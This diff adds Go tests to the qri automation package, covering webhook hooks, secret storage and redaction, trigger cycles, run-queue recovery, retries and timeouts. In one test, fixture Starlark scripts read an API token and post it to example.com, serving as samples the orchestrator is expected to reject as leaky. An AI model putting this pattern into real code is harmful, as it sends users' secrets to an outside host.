@@ -2,6 +2,15 @@ package automation
 
 import (
 	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -9,10 +18,16 @@ import (
 	"github.com/google/go-cmp/cmp/cmpopts"
 	"github.com/qri-io/dataset"
 	"github.com/qri-io/ioes"
+	testkeys "github.com/qri-io/qri/auth/key/test"
+	"github.com/qri-io/qri/automation/hook"
 	"github.com/qri-io/qri/automation/run"
+	"github.com/qri-io/qri/automation/secrets"
 	"github.com/qri-io/qri/automation/trigger"
 	"github.com/qri-io/qri/automation/workflow"
+	"github.com/qri-io/qri/dsref"
 	"github.com/qri-io/qri/event"
+	"github.com/qri-io/qri/profile"
+	"github.com/qri-io/qri/transform/staticlark"
 )
 
 func TestIntegration(t *testing.T) {
@@ -429,6 +444,761 @@ func TestRunStoreEvents(t *testing.T) {
 	<-transformStopped
 }
 
+func TestWebhookHookDelivery(t *testing.T) {
+	ctx := context.Background()
+	bus := event.NewBus(ctx)
+	runStore := run.NewMemStore()
+	workflowStore := workflow.NewMemStore()
+
+	received := make(chan hook.WebhookPayload)
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		p := hook.WebhookPayload{}
+		if err := json.NewDecoder(r.Body).Decode(&p); err != nil {
+			t.Error(err)
+		}
+		w.WriteHeader(http.StatusOK)
+		received <- p
+	}))
+	defer s.Close()
+
+	wh := hook.NewWebhookHook(s.URL, "secret")
+	data, err := json.Marshal(wh)
+	if err != nil {
+		t.Fatal(err)
+	}
+	hookOpts := map[string]interface{}{}
+	if err := json.Unmarshal(data, &hookOpts); err != nil {
+		t.Fatal(err)
+	}
+
+	wf, err := workflowStore.Put(ctx, &workflow.Workflow{
+		InitID:  "dataset_id",
+		OwnerID: "owner_id",
+		Created: &time.Time{},
+		Hooks:   []map[string]interface{}{hookOpts},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	opts := OrchestratorOptions{
+		WorkflowStore: workflowStore,
+		RunStore:      runStore,
+		HookClient:    s.Client(),
+	}
+	o, err := NewOrchestrator(ctx, bus, newCommitWorkflowRunner(bus), opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+	if err := o.Start(ctx); err != nil {
+		t.Fatal(err)
+	}
+
+	runID := "TestWebhookHookDeliveryRunID"
+	if _, err := o.RunWorkflow(ctx, wf.ID, runID); err != nil {
+		t.Fatal(err)
+	}
+
+	expect := hook.WebhookPayload{
+		RunID:      runID,
+		WorkflowID: wf.WorkflowID(),
+		InitID:     wf.InitID,
+		Status:     string(run.RSSucceeded),
+		Ref:        "peer/dataset",
+		CommitPath: "/mem/QmCommit",
+	}
+	select {
+	case got := <-received:
+		if diff := cmp.Diff(expect, got); diff != "" {
+			t.Errorf("webhook payload mismatch (-want +got):\n%s", diff)
+		}
+	case <-time.After(time.Second * 5):
+		t.Fatal("timed out waiting for webhook delivery")
+	}
+
+	for i := 0; i < 50; i++ {
+		r, err := runStore.Get(ctx, runID)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(r.HookDeliveries) > 0 {
+			if !r.HookDeliveries[0].Succeeded() {
+				t.Errorf("expected recorded hook delivery to succeed, got: %#v", r.HookDeliveries[0])
+			}
+			return
+		}
+		<-time.After(10 * time.Millisecond)
+	}
+	t.Error("expected hook delivery to be recorded in the run store")
+}
+
+func TestSaveWorkflowWebhookSecret(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	bus := event.NewBus(ctx)
+	workflowStore := workflow.NewMemStore()
+	secretStore, err := secrets.NewMemStore(testkeys.GetKeyData(0).PrivKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	opts := OrchestratorOptions{
+		WorkflowStore: workflowStore,
+		RunStore:      run.NewMemStore(),
+		SecretStore:   secretStore,
+	}
+	o, err := NewOrchestrator(ctx, bus, newTestWorkflowRunner(opts.RunStore, nil), opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+
+	hookOpts := map[string]interface{}{
+		"type":    hook.WebhookType,
+		"enabled": true,
+		"url":     "http://example.com/hook",
+		"secret":  "hunter2",
+	}
+	wf, err := o.SaveWorkflow(ctx, &workflow.Workflow{
+		InitID:  "dataset_id",
+		OwnerID: "owner_id",
+		Hooks:   []map[string]interface{}{hookOpts},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	stored, err := workflowStore.Get(ctx, wf.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, err := json.Marshal(stored)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(data), "hunter2") {
+		t.Errorf("expected stored workflow not to contain the webhook secret, got: %s", data)
+	}
+	if got := stored.Hooks[0]["secretName"]; got != "webhook_0_secret" {
+		t.Errorf("expected stored hook to reference secret %q, got: %v", "webhook_0_secret", got)
+	}
+	got, err := secretStore.Secrets(ctx, wf.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if diff := cmp.Diff(map[string]string{"webhook_0_secret": "hunter2"}, got); diff != "" {
+		t.Errorf("stored secrets mismatch (-want +got):\n%s", diff)
+	}
+
+	// hook secrets require a secret store
+	o.secrets = nil
+	if _, err := o.SaveWorkflow(ctx, &workflow.Workflow{
+		InitID:  "other_dataset_id",
+		OwnerID: "owner_id",
+		Hooks:   []map[string]interface{}{hookOpts},
+	}); !errors.Is(err, ErrNoSecretStore) {
+		t.Errorf("expected saving a webhook secret without a secret store to return ErrNoSecretStore, got: %v", err)
+	}
+
+	// workflows aren't saved if their hook secrets can't be stored
+	o.secrets = failSetSecretStore{secretStore}
+	if _, err := o.SaveWorkflow(ctx, &workflow.Workflow{
+		InitID:  "other_dataset_id",
+		OwnerID: "owner_id",
+		Hooks:   []map[string]interface{}{hookOpts},
+	}); err == nil {
+		t.Error("expected failing to store a hook secret to error")
+	}
+	if _, err := workflowStore.GetByInitID(ctx, "other_dataset_id"); !errors.Is(err, workflow.ErrNotFound) {
+		t.Errorf("expected new workflow to be removed when storing a hook secret fails, got: %v", err)
+	}
+
+	update := stored.Copy()
+	update.Hooks = []map[string]interface{}{{
+		"type":    hook.WebhookType,
+		"enabled": true,
+		"url":     "http://example.com/other_hook",
+		"secret":  "hunter3",
+	}}
+	if _, err := o.SaveWorkflow(ctx, update); err == nil {
+		t.Error("expected failing to store a hook secret to error")
+	}
+	restored, err := workflowStore.Get(ctx, wf.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := restored.Hooks[0]["url"]; got != "http://example.com/hook" {
+		t.Errorf("expected existing workflow to be restored when storing a hook secret fails, got hook url: %v", got)
+	}
+}
+
+// failSetSecretStore is a secret store that can't store secrets
+type failSetSecretStore struct {
+	secrets.Store
+}
+
+func (failSetSecretStore) Set(ctx context.Context, wid workflow.ID, name, value string) error {
+	return fmt.Errorf("can't set secrets")
+}
+
+func TestNewStores(t *testing.T) {
+	ctx := context.Background()
+	for _, storeType := range []string{"", StoreTypeFile, StoreTypeSQLite} {
+		tmpdir, err := ioutil.TempDir("", "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer os.RemoveAll(tmpdir)
+
+		wfs, rs, err := NewStores(tmpdir, storeType)
+		if err != nil {
+			t.Fatalf("store type %q: %s", storeType, err)
+		}
+		if _, err := wfs.Put(ctx, &workflow.Workflow{InitID: "dataset_id", OwnerID: "owner_id", Created: &time.Time{}}); err != nil {
+			t.Errorf("store type %q: putting workflow: %s", storeType, err)
+		}
+		if err := rs.Shutdown(); err != nil {
+			t.Errorf("store type %q: shutting down run store: %s", storeType, err)
+		}
+		if err := wfs.Shutdown(ctx); err != nil {
+			t.Errorf("store type %q: shutting down workflow store: %s", storeType, err)
+		}
+	}
+
+	if _, _, err := NewStores("", "postgres"); err == nil {
+		t.Error("expected an unknown store type to error")
+	}
+}
+
+func TestSaveWorkflowDatasetTriggerCycle(t *testing.T) {
+	ctx := context.Background()
+	bus := event.NewBus(ctx)
+	opts := OrchestratorOptions{
+		WorkflowStore: workflow.NewMemStore(),
+		RunStore:      run.NewMemStore(),
+		Listeners:     []trigger.Listener{trigger.NewDatasetListener(bus)},
+	}
+	o, err := NewOrchestrator(ctx, bus, newTestWorkflowRunner(opts.RunStore, nil), opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+
+	dependsOn := func(initID string) []map[string]interface{} {
+		return []map[string]interface{}{trigger.NewEmptyDatasetTrigger(initID).ToMap()}
+	}
+
+	// a <- b <- c
+	if _, err := o.SaveWorkflow(ctx, &workflow.Workflow{InitID: "a", OwnerID: "owner"}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := o.SaveWorkflow(ctx, &workflow.Workflow{InitID: "b", OwnerID: "owner", Triggers: dependsOn("a")}); err != nil {
+		t.Fatal(err)
+	}
+	c, err := o.SaveWorkflow(ctx, &workflow.Workflow{InitID: "c", OwnerID: "owner", Triggers: dependsOn("b")})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if _, err := o.SaveWorkflow(ctx, &workflow.Workflow{InitID: "d", OwnerID: "owner", Triggers: dependsOn("d")}); !errors.Is(err, ErrDatasetTriggerCycle) {
+		t.Errorf("expected a workflow triggered by its own dataset to error with ErrDatasetTriggerCycle, got: %v", err)
+	}
+
+	a, err := o.GetWorkflowByInitID(ctx, "a")
+	if err != nil {
+		t.Fatal(err)
+	}
+	a = a.Copy()
+	a.Triggers = dependsOn("c")
+	if _, err := o.SaveWorkflow(ctx, a); !errors.Is(err, ErrDatasetTriggerCycle) {
+		t.Errorf("expected a <- b <- c <- a to error with ErrDatasetTriggerCycle, got: %v", err)
+	}
+
+	c = c.Copy()
+	c.Triggers = append(dependsOn("a"), dependsOn("b")...)
+	if _, err := o.SaveWorkflow(ctx, c); err != nil {
+		t.Errorf("expected diamond shaped dependencies to save without error, got: %s", err)
+	}
+}
+
+// scriptAnalyzer analyzes a starlark script for each workflow, keyed by InitID
+type scriptAnalyzer map[string]string
+
+func (a scriptAnalyzer) AnalyzeWorkflowTransform(ctx context.Context, wf *workflow.Workflow) ([]staticlark.Diagnostic, error) {
+	return staticlark.AnalyzeScript("transform.star", []byte(a[wf.InitID]), nil)
+}
+
+func TestSaveWorkflowTransformLeaks(t *testing.T) {
+	ctx := context.Background()
+	bus := event.NewBus(ctx)
+	opts := OrchestratorOptions{
+		WorkflowStore: workflow.NewMemStore(),
+		RunStore:      run.NewMemStore(),
+		TransformAnalyzer: scriptAnalyzer{
+			"safe": `
+def transform(ds, ctx):
+  ds.set_body([[1, 2]])
+`,
+			"leaky": `
+load("http.star", "http")
+
+def transform(ds, ctx):
+  token = ctx.get_secret("api_token")
+  http.post("https://example.com", body=token)
+`,
+			"leaky_step": `
+load("http.star", "http")
+load("encoding/json.star", "json")
+
+token = secrets.get("api_token")
+rows = json.decode("[]")
+http.post("https://example.com", body=token)
+`,
+		},
+	}
+	o, err := NewOrchestrator(ctx, bus, newTestWorkflowRunner(opts.RunStore, nil), opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+
+	if _, err := o.SaveWorkflow(ctx, &workflow.Workflow{InitID: "safe", OwnerID: "owner"}); err != nil {
+		t.Errorf("expected safe transform to save without error, got: %s", err)
+	}
+	if _, err := o.SaveWorkflow(ctx, &workflow.Workflow{InitID: "leaky", OwnerID: "owner"}); !errors.Is(err, ErrTransformLeaksSecrets) {
+		t.Errorf("expected leaky transform to error with ErrTransformLeaksSecrets, got: %v", err)
+	}
+	if _, err := o.GetWorkflowByInitID(ctx, "leaky"); !errors.Is(err, workflow.ErrNotFound) {
+		t.Errorf("expected leaky workflow not to be stored, got: %v", err)
+	}
+	if _, err := o.SaveWorkflow(ctx, &workflow.Workflow{InitID: "leaky_step", OwnerID: "owner"}); !errors.Is(err, ErrTransformLeaksSecrets) {
+		t.Errorf("expected leaky top level step to error with ErrTransformLeaksSecrets, got: %v", err)
+	}
+}
+
+func TestOrchestratorRecoverRuns(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	tmpdir, err := ioutil.TempDir("", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpdir)
+
+	bus := event.NewBus(ctx)
+	workflowStore := workflow.NewMemStore()
+	runStore := run.NewMemStore()
+	wf, err := workflowStore.Put(ctx, &workflow.Workflow{
+		InitID:  "dataset_id",
+		OwnerID: "owner_id",
+		Created: &time.Time{},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// a queue file left behind by a process that stopped while running
+	// "interrupted" with "queued" & "apply" waiting
+	qOpts := RunQueueOptions{
+		Interval: 10 * time.Millisecond,
+		Workers:  1,
+		Path:     filepath.Join(tmpdir, "run_queue.json"),
+	}
+	entries := []RunQueueEntry{
+		{OwnerID: "owner_id", WorkflowID: wf.ID.String(), RunID: "interrupted", Mode: "run", Running: true},
+		{OwnerID: "owner_id", WorkflowID: wf.ID.String(), RunID: "queued", Mode: "run"},
+		{OwnerID: "owner_id", WorkflowID: wf.ID.String(), RunID: "apply", Mode: "apply"},
+	}
+	data, err := json.Marshal(entries)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := ioutil.WriteFile(qOpts.Path, data, 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	opts := OrchestratorOptions{
+		WorkflowStore: workflowStore,
+		RunStore:      runStore,
+		RunQueue:      &qOpts,
+	}
+	o, err := NewOrchestrator(ctx, bus, newTestWorkflowRunner(runStore, nil), opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+
+	interrupted, err := runStore.Get(ctx, "interrupted")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if interrupted.Status != run.RSFailed {
+		t.Errorf("expected interrupted run status to be %q, got %q", run.RSFailed, interrupted.Status)
+	}
+
+	for i := 0; i < 50; i++ {
+		if _, err := runStore.Get(ctx, "queued"); err == nil {
+			break
+		}
+		<-time.After(10 * time.Millisecond)
+	}
+	if _, err := runStore.Get(ctx, "queued"); err != nil {
+		t.Errorf("expected queued run to execute after recovery, got: %s", err)
+	}
+	if _, err := runStore.Get(ctx, "apply"); !errors.Is(err, run.ErrNotFound) {
+		t.Errorf("expected queued apply to be dropped during recovery, got: %v", err)
+	}
+}
+
+func TestNewOrchestratorRunQueueError(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	tmpdir, err := ioutil.TempDir("", "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(tmpdir)
+
+	qOpts := RunQueueOptions{Path: filepath.Join(tmpdir, "run_queue.json")}
+	if err := ioutil.WriteFile(qOpts.Path, []byte("not json"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	runStore := run.NewMemStore()
+	opts := OrchestratorOptions{
+		WorkflowStore: workflow.NewMemStore(),
+		RunStore:      runStore,
+		RunQueue:      &qOpts,
+	}
+
+	errs := make(chan error, 1)
+	go func() {
+		_, err := NewOrchestrator(ctx, event.NewBus(ctx), newTestWorkflowRunner(runStore, nil), opts)
+		errs <- err
+	}()
+	select {
+	case err := <-errs:
+		if err == nil {
+			t.Error("expected an unreadable run queue file to error")
+		}
+	case <-time.After(time.Second):
+		t.Fatal("timed out waiting for NewOrchestrator to return")
+	}
+}
+
+func TestRunWorkflowRetryPolicy(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	bus := event.NewBus(ctx)
+	workflowStore := workflow.NewMemStore()
+	runStore := run.NewMemStore()
+
+	wf, err := workflowStore.Put(ctx, &workflow.Workflow{
+		InitID:      "dataset_id",
+		OwnerID:     "owner_id",
+		Created:     &time.Time{},
+		RetryPolicy: &workflow.RetryPolicy{MaxAttempts: 3, Backoff: 10 * time.Millisecond},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	runner := &flakyWorkflowRunner{bus: bus, failures: 2}
+	opts := OrchestratorOptions{
+		WorkflowStore: workflowStore,
+		RunStore:      runStore,
+	}
+	o, err := NewOrchestrator(ctx, bus, runner, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+
+	stopped := make(chan event.WorkflowStoppedEvent, 1)
+	bus.SubscribeID(func(ctx context.Context, e event.Event) error {
+		if e.Type == event.ETAutomationWorkflowStopped {
+			stopped <- e.Payload.(event.WorkflowStoppedEvent)
+		}
+		return nil
+	}, wf.ID.String())
+
+	runID, err := o.RunWorkflow(ctx, wf.ID, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case e := <-stopped:
+		if e.Status != string(run.RSSucceeded) {
+			t.Errorf("expected run to succeed after retrying, got status %q", e.Status)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("timed out waiting for run to stop")
+	}
+
+	if runner.attempts != 3 {
+		t.Errorf("expected 3 attempts, got %d", runner.attempts)
+	}
+	r, err := runStore.Get(ctx, runID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Status != run.RSSucceeded {
+		t.Errorf("expected stored run status %q, got %q", run.RSSucceeded, r.Status)
+	}
+	if len(r.Attempts) != 2 {
+		t.Fatalf("expected 2 previous attempts to be recorded, got %d", len(r.Attempts))
+	}
+	for i, a := range r.Attempts {
+		if a.Number != i+1 || a.Status != run.RSFailed {
+			t.Errorf("attempt %d: expected failed attempt number %d, got %q attempt number %d", i, i+1, a.Status, a.Number)
+		}
+	}
+}
+
+func TestRunWorkflowSecrets(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	bus := event.NewBus(ctx)
+	workflowStore := workflow.NewMemStore()
+	runStore := run.NewMemStore()
+	secretStore, err := secrets.NewMemStore(testkeys.GetKeyData(0).PrivKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	wf, err := workflowStore.Put(ctx, &workflow.Workflow{
+		InitID:  "dataset_id",
+		OwnerID: "owner_id",
+		Created: &time.Time{},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	runner := &secretsWorkflowRunner{bus: bus}
+	o, err := NewOrchestrator(ctx, bus, runner, OrchestratorOptions{
+		WorkflowStore: workflowStore,
+		RunStore:      runStore,
+		SecretStore:   secretStore,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+
+	if err := o.SetWorkflowSecret(ctx, workflow.ID("unknown"), "api_key", "hunter2"); !errors.Is(err, workflow.ErrNotFound) {
+		t.Errorf("expected setting a secret for an unknown workflow to return ErrNotFound, got: %v", err)
+	}
+	if err := o.SetWorkflowSecret(ctx, wf.ID, "api_key", "hunter2"); err != nil {
+		t.Fatal(err)
+	}
+
+	stopped := make(chan struct{}, 1)
+	bus.SubscribeID(func(ctx context.Context, e event.Event) error {
+		if e.Type == event.ETAutomationWorkflowStopped {
+			stopped <- struct{}{}
+		}
+		return nil
+	}, wf.ID.String())
+
+	runID, err := o.RunWorkflow(ctx, wf.ID, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case <-stopped:
+	case <-time.After(5 * time.Second):
+		t.Fatal("timed out waiting for run to stop")
+	}
+
+	if diff := cmp.Diff(map[string]string{"api_key": "hunter2"}, runner.secrets); diff != "" {
+		t.Errorf("injected secrets mismatch (-want +got):\n%s", diff)
+	}
+	r, err := runStore.Get(ctx, runID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	data, err := json.Marshal(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(data), "hunter2") {
+		t.Errorf("expected stored run not to contain secret values, got: %s", data)
+	}
+	if !strings.Contains(string(data), event.RedactedSecret) {
+		t.Errorf("expected stored run output to be redacted, got: %s", data)
+	}
+
+	// removing a workflow removes its secrets
+	if err := o.RemoveWorkflow(ctx, wf.ID); err != nil {
+		t.Fatal(err)
+	}
+	if names, _ := secretStore.Names(ctx, wf.ID); len(names) != 0 {
+		t.Errorf("expected removed workflow secrets to be deleted, got: %v", names)
+	}
+}
+
+func TestRunWorkflowSecretsError(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	bus := event.NewBus(ctx)
+	workflowStore := workflow.NewMemStore()
+	runStore := run.NewMemStore()
+	secretStore, err := secrets.NewMemStore(testkeys.GetKeyData(0).PrivKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	wf, err := workflowStore.Put(ctx, &workflow.Workflow{
+		InitID:  "dataset_id",
+		OwnerID: "owner_id",
+		Created: &time.Time{},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	runner := &secretsWorkflowRunner{bus: bus}
+	o, err := NewOrchestrator(ctx, bus, runner, OrchestratorOptions{
+		WorkflowStore: workflowStore,
+		RunStore:      runStore,
+		SecretStore:   failSecretsSecretStore{secretStore},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+
+	stopped := make(chan event.WorkflowStoppedEvent, 1)
+	bus.SubscribeID(func(ctx context.Context, e event.Event) error {
+		if e.Type == event.ETAutomationWorkflowStopped {
+			stopped <- e.Payload.(event.WorkflowStoppedEvent)
+		}
+		return nil
+	}, wf.ID.String())
+
+	// runs that can't load their secrets are recorded as failed
+	runID, err := o.RunWorkflow(ctx, wf.ID, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case e := <-stopped:
+		if e.Status != string(run.RSFailed) {
+			t.Errorf("expected run to fail, got status %q", e.Status)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("timed out waiting for run to stop")
+	}
+
+	r, err := runStore.Get(ctx, runID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Status != run.RSFailed {
+		t.Errorf("expected stored run status %q, got %q", run.RSFailed, r.Status)
+	}
+	if !strings.Contains(r.Message, "loading workflow secrets") {
+		t.Errorf("expected stored run message to describe the secrets error, got: %q", r.Message)
+	}
+	if runner.secrets != nil {
+		t.Errorf("expected workflow not to run, got secrets: %v", runner.secrets)
+	}
+}
+
+// failSecretsSecretStore is a secret store that can't load secrets
+type failSecretsSecretStore struct {
+	secrets.Store
+}
+
+func (failSecretsSecretStore) Secrets(ctx context.Context, wid workflow.ID) (map[string]string, error) {
+	return nil, fmt.Errorf("can't load secrets")
+}
+
+// secretsWorkflowRunner records the secrets it's given & prints them
+type secretsWorkflowRunner struct {
+	bus     event.Bus
+	secrets map[string]string
+}
+
+func (r *secretsWorkflowRunner) RunAndCommit(ctx context.Context, runID string, wf *workflow.Workflow, streams ioes.IOStreams, params WorkflowRunParams) error {
+	r.secrets = params.Secrets
+	r.bus.PublishID(ctx, event.ETTransformStart, runID, event.TransformLifecycle{Status: "running"})
+	r.bus.PublishID(ctx, event.ETTransformStepStart, runID, event.TransformStepLifecycle{Name: "transform"})
+	r.bus.PublishID(ctx, event.ETTransformPrint, runID, event.TransformMessage{Msg: "api key is " + params.Secrets["api_key"]})
+	r.bus.PublishID(ctx, event.ETTransformStepStop, runID, event.TransformStepLifecycle{Name: "transform", Status: "succeeded"})
+	r.bus.PublishID(ctx, event.ETTransformStop, runID, event.TransformLifecycle{Status: "succeeded"})
+	return nil
+}
+
+func (r *secretsWorkflowRunner) RunEphemeral(ctx context.Context, runID string, wf *workflow.Workflow, ds *dataset.Dataset, wait bool, params WorkflowRunParams) error {
+	return nil
+}
+
+func TestRunWorkflowTimeout(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	bus := event.NewBus(ctx)
+	workflowStore := workflow.NewMemStore()
+	runStore := run.NewMemStore()
+
+	wf, err := workflowStore.Put(ctx, &workflow.Workflow{
+		InitID:      "dataset_id",
+		OwnerID:     "owner_id",
+		Created:     &time.Time{},
+		Timeout:     50 * time.Millisecond,
+		RetryPolicy: &workflow.RetryPolicy{MaxAttempts: 5},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	runner := &flakyWorkflowRunner{bus: bus, block: true}
+	opts := OrchestratorOptions{
+		WorkflowStore: workflowStore,
+		RunStore:      runStore,
+	}
+	o, err := NewOrchestrator(ctx, bus, runner, opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+
+	stopped := make(chan event.WorkflowStoppedEvent, 1)
+	bus.SubscribeID(func(ctx context.Context, e event.Event) error {
+		if e.Type == event.ETAutomationWorkflowStopped {
+			stopped <- e.Payload.(event.WorkflowStoppedEvent)
+		}
+		return nil
+	}, wf.ID.String())
+
+	runID, err := o.RunWorkflow(ctx, wf.ID, "")
+	if err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case e := <-stopped:
+		if e.Status != string(run.RSFailed) {
+			t.Errorf("expected timed out run to fail, got status %q", e.Status)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("timed out waiting for run to stop")
+	}
+
+	if runner.attempts != 1 {
+		t.Errorf("expected a timed out run not to be retried, got %d attempts", runner.attempts)
+	}
+	r, err := runStore.Get(ctx, runID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r.Status != run.RSFailed {
+		t.Errorf("expected stored run status %q, got %q", run.RSFailed, r.Status)
+	}
+	if !strings.Contains(r.Message, ErrRunTimedOut.Error()) {
+		t.Errorf("expected stored run message to explain the timeout, got %q", r.Message)
+	}
+}
+
 func confirmStoredRun(ctx context.Context, t *testing.T, s run.Store, expect *run.State) {
 	t.Helper()
 	got, err := s.Get(ctx, expect.ID)
@@ -508,3 +1278,111 @@ func (r *workflowRunSimulator) RunAndCommit(ctx context.Context, runID string, w
 func (r *workflowRunSimulator) RunEphemeral(ctx context.Context, runID string, wf *workflow.Workflow, ds *dataset.Dataset, wait bool, params WorkflowRunParams) error {
 	return nil
 }
+
+// a workflow runner that emits a commit event for every run
+type commitWorkflowRunner struct {
+	bus event.Bus
+}
+
+func newCommitWorkflowRunner(bus event.Bus) *commitWorkflowRunner {
+	return &commitWorkflowRunner{bus: bus}
+}
+
+func (r *commitWorkflowRunner) RunAndCommit(ctx context.Context, runID string, wf *workflow.Workflow, streams ioes.IOStreams, params WorkflowRunParams) error {
+	return r.bus.Publish(ctx, event.ETLogbookWriteCommit, dsref.VersionInfo{
+		InitID:   wf.InitID,
+		Username: "peer",
+		Name:     "dataset",
+		Path:     "/mem/QmCommit",
+		RunID:    runID,
+	})
+}
+
+func (r *commitWorkflowRunner) RunEphemeral(ctx context.Context, runID string, wf *workflow.Workflow, ds *dataset.Dataset, wait bool, params WorkflowRunParams) error {
+	return nil
+}
+
+// a workflow runner that fails a number of times before succeeding, emitting
+// transform lifecycle events for each attempt. When block is true, every
+// attempt waits for the context to be canceled
+type flakyWorkflowRunner struct {
+	bus      event.Bus
+	failures int
+	block    bool
+	attempts int
+}
+
+func (r *flakyWorkflowRunner) RunAndCommit(ctx context.Context, runID string, wf *workflow.Workflow, streams ioes.IOStreams, params WorkflowRunParams) error {
+	r.attempts++
+	r.bus.PublishID(ctx, event.ETTransformStart, runID, event.TransformLifecycle{Status: "running"})
+	if r.block {
+		<-ctx.Done()
+		r.bus.PublishID(ctx, event.ETTransformCanceled, runID, event.TransformLifecycle{Status: "failed"})
+		return ctx.Err()
+	}
+	if r.attempts <= r.failures {
+		r.bus.PublishID(ctx, event.ETTransformStop, runID, event.TransformLifecycle{Status: "failed"})
+		return fmt.Errorf("attempt %d failed", r.attempts)
+	}
+	r.bus.PublishID(ctx, event.ETTransformStop, runID, event.TransformLifecycle{Status: "succeeded"})
+	return nil
+}
+
+func (r *flakyWorkflowRunner) RunEphemeral(ctx context.Context, runID string, wf *workflow.Workflow, ds *dataset.Dataset, wait bool, params WorkflowRunParams) error {
+	return nil
+}
+
+func TestFollowRunOwner(t *testing.T) {
+	ctx := context.Background()
+	bus := event.NewBus(ctx)
+	opts := OrchestratorOptions{
+		WorkflowStore: workflow.NewMemStore(),
+		RunStore:      run.NewMemStore(),
+	}
+	o, err := NewOrchestrator(ctx, bus, newTestWorkflowRunner(opts.RunStore, nil), opts)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer o.Stop()
+
+	collect := func(runID string, ownerID profile.ID) ([]RunEvent, error) {
+		got := []RunEvent{}
+		err := o.FollowRun(ctx, runID, ownerID, 0, func(e RunEvent) error {
+			got = append(got, e)
+			return nil
+		})
+		return got, err
+	}
+
+	live := o.streams.open("live_run", "owner")
+	live.add(event.Event{Type: event.ETTransformStart, SessionID: "live_run"})
+	live.finish()
+	if _, err := collect("live_run", "other"); !errors.Is(err, ErrRunEventsNotFound) {
+		t.Errorf("expected following another profile's run to return ErrRunEventsNotFound. got: %v", err)
+	}
+	if got, err := collect("live_run", "owner"); err != nil || len(got) != 1 {
+		t.Errorf("expected the owner to follow the run. got events: %v, err: %v", got, err)
+	}
+
+	now := time.Now()
+	if _, err := opts.RunStore.Create(ctx, &run.State{
+		ID:         "stored_run",
+		WorkflowID: "workflow_id",
+		OwnerID:    "owner",
+		Status:     run.RSSucceeded,
+		StartTime:  &now,
+		StopTime:   &now,
+	}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := collect("stored_run", "other"); !errors.Is(err, ErrRunEventsNotFound) {
+		t.Errorf("expected following another profile's stored run to return ErrRunEventsNotFound. got: %v", err)
+	}
+	got, err := collect("stored_run", "owner")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(got) != 2 || got[0].Event.Type != event.ETTransformStart || got[1].Event.Type != event.ETTransformStop {
+		t.Errorf("expected start & stop events from the stored run. got: %v", got)
+	}
+}